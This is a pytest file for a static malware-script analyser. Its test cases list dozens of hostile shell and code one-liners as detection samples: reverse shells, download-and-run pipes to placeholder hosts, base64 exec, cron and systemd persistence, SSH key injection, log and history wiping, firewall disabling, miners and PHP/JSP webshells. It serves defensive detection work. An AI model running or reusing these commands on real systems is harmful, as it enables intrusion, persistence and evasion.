"""Script analysis: interpreters, languages and every suspicious-command indicator."""

from __future__ import annotations

import pytest

from aasee.processing.static.scripts import (
    INDICATORS,
    MAX_PER_INDICATOR,
    SCRIPT_LIMIT,
    analyse_script,
)

# One line per case; each indicator id has at least one (checked below).
CASES = [
    ("wget http://203.0.113.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x", "download_exec"),
    ("curl -fsSL http://evil.example/a.sh | sh", "download_exec"),
    ("busybox wget http://203.0.113.9/m.sh -O- | busybox sh", "download_exec"),
    ("exec(urllib.request.urlopen('http://x.example/p').read())", "download_exec"),
    ("wget -q https://example.org/file.tar.gz", "download"),
    ("tftp -g -r mips 203.0.113.9", "download"),
    ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "reverse_shell"),
    ("nc -e /bin/sh 203.0.113.9 4444", "reverse_shell"),
    (
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
        "reverse_shell",
    ),
    ("socat tcp:203.0.113.9:4444 exec:/bin/sh,pty", "reverse_shell"),
    ("pty.spawn('/bin/bash')", "reverse_shell"),
    ("os.dup2(s.fileno(),0)", "reverse_shell"),
    ("$s=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3');", "reverse_shell"),
    ("echo ZWNobyBoaQ== | base64 -d | bash", "base64_decode_exec"),
    ("eval(base64_decode($x));", "base64_decode_exec"),
    ("exec(base64.b64decode('cHJpbnQoMSk='))", "base64_decode_exec"),
    ('eval "$(echo ZWNobyBoaQ== | base64 --decode)"', "base64_decode_exec"),
    ("history -c", "history_clear"),
    ("unset HISTFILE", "history_clear"),
    ("export HISTFILE=/dev/null", "history_clear"),
    ("rm -f ~/.bash_history", "history_clear"),
    ("(crontab -l 2>/dev/null; echo '* * * * * /tmp/x') | crontab -", "cron_install"),
    ("echo '*/5 * * * * root /tmp/x' >> /etc/crontab", "cron_install"),
    ("echo '@reboot /tmp/x' > /var/spool/cron/root", "cron_install"),
    ("chmod 777 /tmp/x", "chmod_exec"),
    ("chmod +x ./payload", "chmod_exec"),
    ("setenforce 0", "kill_security"),
    ("systemctl stop firewalld", "kill_security"),
    ("ufw disable", "kill_security"),
    ("pkill -9 AliYunDun", "kill_security"),
    ("iptables -F", "iptables_flush"),
    ("iptables -P INPUT ACCEPT", "iptables_flush"),
    ("nft flush ruleset", "iptables_flush"),
    ("pkill -f kdevtmpfsi", "kill_competitors"),
    ("ps aux | grep xmrig | awk '{print $2}' | xargs kill -9", "kill_competitors"),
    ("./x -o stratum+tcp://pool.example.com:3333 -u wallet", "miner"),
    ("./xmrig --donate-level 1 -o pool.example.com:443", "miner"),
    ("echo 'ssh-rsa AAAAB3Nza x@y' >> /root/.ssh/authorized_keys", "ssh_key_inject"),
    ("cat ~/.ssh/id_rsa", "ssh_key_access"),
    ("echo /usr/local/lib/libhide.so > /etc/ld.so.preload", "ld_preload"),
    ("LD_PRELOAD=/tmp/x.so /bin/ls", "ld_preload"),
    ("cp x.service /etc/systemd/system/x.service", "systemd_persist"),
    ("systemctl enable x.service", "systemd_persist"),
    ("echo '/tmp/x &' >> /etc/rc.local", "init_persist"),
    ("update-rc.d x defaults", "init_persist"),
    ("echo '/tmp/x &' >> ~/.bashrc", "init_persist"),
    ("rm -rf /var/log/*", "log_clear"),
    ("cat /dev/null > /var/log/wtmp", "log_clear"),
    ("useradd -o -u 0 -g 0 toor", "user_add"),
    ("echo 'toor:pw' | chpasswd", "user_add"),
    ("echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "sudoers"),
    ("cat /etc/shadow", "shadow_read"),
    ("chattr +i /tmp/x", "immutable_attr"),
    ("chattr -ia /etc/passwd", "immutable_attr"),
    ("touch -r /bin/ls /tmp/x", "timestomp"),
    ("cp x /tmp/.hidden", "hidden_path"),
    ("mount --bind /tmp/empty /proc/1234", "proc_hide"),
    ('rm -f "$0"', "self_delete"),
    ("<?php system($_GET['cmd']); ?>", "webshell"),
    ('Runtime.getRuntime().exec(request.getParameter("c"));', "webshell"),
]


@pytest.mark.parametrize(
    ("line", "expected"), CASES, ids=[f"{c[1]}-{i}" for i, c in enumerate(CASES)]
)
def test_indicator(line: str, expected: str) -> None:
    info = analyse_script(b"#!/bin/sh\n" + line.encode() + b"\n")
    assert info is not None
    found = {i.id for i in info.indicators}
    assert expected in found, found
    hit = next(i for i in info.indicators if i.id == expected)
    assert hit.line == 2 and hit.text == line.strip()[:200] and hit.description


def test_every_indicator_has_a_case() -> None:
    assert {indicator.id for indicator in INDICATORS} == {expected for _, expected in CASES}
    assert len({indicator.id for indicator in INDICATORS}) == len(INDICATORS)


def test_a_download_that_is_run_is_reported_once() -> None:
    info = analyse_script(b"#!/bin/sh\nwget http://x.example/a -O- | sh\n")
    assert info is not None and [i.id for i in info.indicators] == ["download_exec"]


BENIGN = b"""#!/bin/sh
# Update the local package index and clean up.
set -e
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
for f in /etc/apt/sources.list.d/*.list; do
    [ -f "$f" ] && echo "using $f"
done
apt-get update -qq
grep -q '^deb ' /etc/apt/sources.list || echo "no sources" >&2
exit 0
"""


def test_benign_script_has_no_indicator() -> None:
    info = analyse_script(BENIGN)
    assert info is not None and info.indicators == []
    assert (info.language, info.interpreter, info.lines) == ("shell", "/bin/sh", 11)


@pytest.mark.parametrize(
    ("head", "language", "interpreter"),
    [
        (b"#!/bin/bash\n", "shell", "/bin/bash"),
        (b"#! /bin/busybox sh\n", "shell", "/bin/busybox"),
        (b"#!/usr/bin/env python3\n", "python", "python3"),
        (b"#!/usr/bin/python3.11 -u\n", "python", "/usr/bin/python3.11"),
        (b"#!/usr/bin/perl -w\n", "perl", "/usr/bin/perl"),
        (b"#!/usr/bin/env node\n", "javascript", "node"),
        (b"#!/usr/bin/env -S LC_ALL=C perl -w\n", "perl", "perl"),
        (b"#!/usr/bin/env\n", "text", "/usr/bin/env"),
        (b"#!/opt/odd/interp\n", "text", "/opt/odd/interp"),
    ],
)
def test_shebang(head: bytes, language: str, interpreter: str) -> None:
    info = analyse_script(head + b"x = 1\n")
    assert info is not None and (info.language, info.interpreter) == (language, interpreter)


@pytest.mark.parametrize(
    ("text", "language"),
    [
        (b"import os\nimport sys\n\ndef main():\n    pass\n", "python"),
        (b"use strict;\nuse warnings;\nmy $x = 1;\n", "perl"),
        (b"<?php\necho 'hi';\n", "php"),
        (b'<%@ page import="java.io.*" %>\n<% out.println(1); %>\n', "jsp"),
        (b"cd /tmp\nwget http://x.example/a\nchmod 755 a\n", "shell"),
    ],
)
def test_language_without_shebang(text: bytes, language: str) -> None:
    info = analyse_script(text)
    assert info is not None and info.language == language and info.interpreter is None


def test_mime_hint_and_plain_text() -> None:
    info = analyse_script(b"echo hi\n", mime="text/x-shellscript")
    assert info is not None and info.language == "shell"
    assert analyse_script(b"Dear reader, nothing to see here.\n") is None
    # Text in no language still reports what it carries: a dropped crontab line.
    crontab = analyse_script(b"* * * * * curl -s http://x.example/a | sh\n")
    assert crontab is not None and crontab.language == "text"
    assert [i.id for i in crontab.indicators] == ["download_exec"]


def test_binary_is_not_a_script() -> None:
    assert analyse_script(b"\x7fELF\x02\x01\x01" + bytes(100) + b"wget http://x | sh") is None
    # A shebang makes it a script even with a binary payload appended (self-extracting).
    info = analyse_script(b"#!/bin/sh\ntail -n +3 $0 | sh; exit\n\x00\x01\x02")
    assert info is not None and info.language == "shell"


def test_bounds() -> None:
    many = b"#!/bin/sh\n" + b"history -c\n" * 1000
    info = analyse_script(many)
    assert info is not None and len(info.indicators) == MAX_PER_INDICATOR
    huge = b"#!/bin/sh\n" + b"echo x\n" * (SCRIPT_LIMIT // 7 + 10) + b"history -c\n"
    info = analyse_script(huge)
    assert info is not None and info.truncated and info.indicators == []
    long_line = b"#!/bin/sh\nhistory -c; " + b"A" * 10_000 + b"\n"
    info = analyse_script(long_line)
    assert info is not None and len(info.indicators[0].text) == 200


def test_needles_never_hide_a_match() -> None:
    # The needle check only skips work: whatever a pattern matches must contain a needle.
    lines = [line for line, _ in CASES] + BENIGN.decode().splitlines()
    for indicator in INDICATORS:
        for line in lines:
            if indicator.pattern.search(line):
                assert any(n in line for n in indicator.needles), (indicator.id, line)
